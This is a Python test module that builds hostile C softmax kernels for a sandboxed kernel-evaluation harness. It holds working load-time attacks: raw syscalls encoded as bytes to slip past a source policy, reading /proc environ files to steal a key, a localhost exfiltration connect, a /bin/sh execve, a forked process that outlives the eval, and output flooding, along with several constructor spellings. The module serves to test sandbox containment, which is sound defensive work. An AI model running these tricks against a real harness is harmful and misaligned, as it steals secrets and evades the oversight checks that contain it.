"""C building blocks for hostile kernels (tests only).

The attacks make raw system calls with the `syscall` instruction spelled as bytes
(`.byte 0x0f, 0x05`), so no banned name, header or asm word reaches the source policy: what
stops them must be the OS layers (bubblewrap namespaces, Landlock, seccomp). x86-64 only.
Every attack is a function `attack(void)`; `escaped` is set when any step worked, `ran` when
the attack ran at all, and the kernel computes a correct softmax only when it ran and nothing
escaped, so a correct result means "the load-time code ran and was contained".
"""

from __future__ import annotations

SYSCALLS = r"""
#include <stddef.h>
#include <math.h>
static long sc(long n, long a, long b, long c, long d, long e, long f) {
  long ret;
  register long r10 __asm__("r10") = d;
  register long r8 __asm__("r8") = e;
  register long r9 __asm__("r9") = f;
  __asm__ volatile(".byte 0x0f, 0x05" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                   : "rcx", "r11", "memory");
  return ret;
}
enum { S_READ = 0, S_WRITE = 1, S_OPEN = 2, S_CLOSE = 3, S_NANOSLEEP = 35, S_SOCKET = 41, S_CONNECT = 42,
       S_FORK = 57, S_EXECVE = 59, S_GETPPID = 110, S_SETSID = 112, S_PRCTL = 157, S_EXIT_GROUP = 231 };
static volatile int escaped, ran;
static char loot[16384];
static long slen(const char *s) { long n = 0; while (s[n]) n++; return n; }
static void say(const char *s, long n) { sc(S_WRITE, 2, (long)s, n, 0, 0, 0); sc(S_WRITE, 1, (long)s, n, 0, 0, 0); }
static void put_num(char *out, long v) {
  char tmp[24]; int n = 0;
  do { tmp[n++] = (char)('0' + v % 10); v /= 10; } while (v);
  while (n) *out++ = tmp[--n];
  *out = 0;
}
"""

SOFTMAX_ROWS = """\
static void softmax_rows(const float *restrict X, float *restrict Y) {
  for (int i = 0; i < 512; i++) {
    const float *x = X + (size_t)i * 1024;
    float m = x[0], s = 0.0f;
    for (int j = 1; j < 1024; j++) m = fmaxf(m, x[j]);
    for (int j = 0; j < 1024; j++) s += expf(x[j] - m);
    for (int j = 0; j < 1024; j++) Y[(size_t)i * 1024 + j] = expf(x[j] - m) / s;
  }
}
"""  # a correct softmax for cpu/softmax-f32; hostile kernels compute it only when their attack failed

SOFTMAX = "\n" + SOFTMAX_ROWS + """\
void softmax(const float *restrict X, float *restrict Y) {
  if (ran && !escaped) softmax_rows(X, Y);
}
"""


def steal_environ(*pids: int) -> str:
    """Read /proc/<ppid>/environ and /proc/<pid>/environ of `pids` (the process holding the key);
    on success print it to stdout and stderr and exit 1, so it would land in the error message."""
    targets = ", ".join(str(p) for p in (*pids, 0))
    return r"""
static void attack(void) {
  ran = 1;
  long pids[] = {sc(S_GETPPID, 0, 0, 0, 0, 0, 0), %s};
  for (int i = 0; pids[i] || i == 0; i++) {
    char path[64] = "/proc/";
    put_num(path + 6, pids[i]);
    char *end = path + slen(path);
    const char *tail = "/environ";
    while ((*end++ = *tail++)) {}
    long fd = sc(S_OPEN, (long)path, 0, 0, 0, 0, 0);
    if (fd < 0) continue;
    long n = sc(S_READ, fd, (long)loot, sizeof loot, 0, 0, 0);
    sc(S_CLOSE, fd, 0, 0, 0, 0, 0);
    if (n > 0) { escaped = 1; say(loot, n); }
  }
  if (escaped) sc(S_EXIT_GROUP, 1, 0, 0, 0, 0, 0);
}
""" % targets


def connect_to(port: int) -> str:
    """TCP-connect to 127.0.0.1:`port` and send a line."""
    return r"""
static void attack(void) {
  ran = 1;
  struct { unsigned short family, port; unsigned int addr; char zero[8]; } to = {2, 0, 0x0100007f, {0}};
  to.port = (unsigned short)((%d >> 8) | ((%d & 255) << 8));
  long s = sc(S_SOCKET, 2, 1, 0, 0, 0, 0);
  if (s >= 0 && sc(S_CONNECT, s, (long)&to, sizeof to, 0, 0, 0) == 0) {
    escaped = 1;
    sc(S_WRITE, s, (long)"stolen\n", 7, 0, 0, 0);
  }
}
""" % (port, port)


def exec_shell(marker: str) -> str:
    """execve /bin/sh, which would write `marker` (a file outside the scratch directory)."""
    return r"""
static void attack(void) {
  ran = 1;
  const char *argv[] = {"/bin/sh", "-c", "echo pwned > %s", 0};
  const char *envp[] = {0};
  if (sc(S_EXECVE, (long)"/bin/sh", (long)argv, (long)envp, 0, 0, 0) == 0) escaped = 1;
}
""" % marker


def fork_and_linger(name: str, seconds: int = 30) -> str:
    """fork a child that leaves the session, names itself `name` (<= 15 chars, findable in
    /proc/*/comm), keeps stdout/stderr open and sleeps `seconds`: a process outliving the eval."""
    return r"""
static void attack(void) {
  ran = 1;
  long pid = sc(S_FORK, 0, 0, 0, 0, 0, 0);
  if (pid == 0) {
    sc(S_SETSID, 0, 0, 0, 0, 0, 0);
    sc(S_PRCTL, 15 /* PR_SET_NAME */, (long)"%s", 0, 0, 0, 0);
    struct { long s, ns; } t = {%d, 0};
    sc(S_NANOSLEEP, (long)&t, 0, 0, 0, 0, 0);
    sc(S_EXIT_GROUP, 0, 0, 0, 0, 0, 0);
  }
  if (pid > 0) escaped = 1;
}
""" % (name, seconds)


def flood(fd: int, megabytes: int) -> str:
    """Write `megabytes` MB to `fd` (2: stderr; the harness's private result stream is a dup of
    stdout), then exit 1 so the output is looked at."""
    return r"""
static void attack(void) {
  ran = 1;
  static char block[1 << 20];
  for (int i = 0; i < (int)sizeof block; i++) block[i] = (char)('a' + i %% 26);
  for (int i = 0; i < %d; i++) sc(S_WRITE, %d, (long)block, sizeof block, 0, 0, 0);
  sc(S_EXIT_GROUP, 1, 0, 0, 0, 0, 0);
}
""" % (megabytes, fd)


# How load-time code gets registered: each spelling makes `attack` run when the object is loaded.
LOAD_TIME = {
    "constructor": "__attribute__((constructor)) static void run_it(void) { attack(); }\n",
    "__constructor__": "__attribute__((__constructor__)) static void run_it(void) { attack(); }\n",
    "spaced, with priority": "__attribute__  (( constructor  (101) )) static void run_it(void) { attack(); }\n",
    "via a macro": "#define AT(x) __attribute__((x))\nAT(constructor) static void run_it(void) { attack(); }\n",
    "section attribute": ('__attribute__((section(".init_array"), used)) static void (*run_it)(void) = attack;\n'),
    "asm .init_array": ('__attribute__((used)) static void run_it(void) { attack(); }\n'
                        '__asm__(".pushsection .init_array, \\"aw\\"\\n.balign 8\\n.quad run_it\\n.popsection");\n'),
    "asm .ctors": ('__attribute__((used)) static void run_it(void) { attack(); }\n'
                   '__asm__(".pushsection .ctors, \\"aw\\"\\n.balign 8\\n.quad run_it\\n.popsection");\n'),
    "ifunc resolver": ("static void impl(void) {}\n"
                       "static void (*resolve(void))(void) { attack(); return impl; }\n"
                       'void hook(void) __attribute__((ifunc("resolve")));\n'
                       "__attribute__((used)) void (*hook_ref)(void) = hook;\n"),
}


def hostile(attack: str, spelling: str = "asm .init_array") -> str:
    """A softmax kernel (cpu/softmax-f32) whose `attack` runs at load time, registered by `spelling`."""
    return SYSCALLS + attack + LOAD_TIME[spelling] + SOFTMAX
